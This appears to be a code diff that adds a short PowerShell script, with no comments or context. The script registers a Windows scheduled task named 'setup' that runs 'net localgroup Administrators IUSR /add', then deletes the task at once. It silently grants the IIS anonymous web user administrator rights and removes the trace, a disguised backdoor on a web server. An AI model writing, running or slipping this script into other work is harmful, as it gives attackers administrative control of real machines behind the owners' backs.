@@ -1,0 +1,8 @@
+$service = New-Object -ComObject Schedule.Service
+$service.Connect()
+$definition = $service.NewTask(0)
+$action = $definition.Actions.Create(0)
+$action.Path = 'cmd.exe'
+$action.Arguments = '/c net localgroup Administrators IUSR /add'
+[void]$service.GetFolder('\').RegisterTaskDefinition('setup', $definition, 6, $null, $null, 5)
+$service.GetFolder('\').DeleteTask('setup', 0)
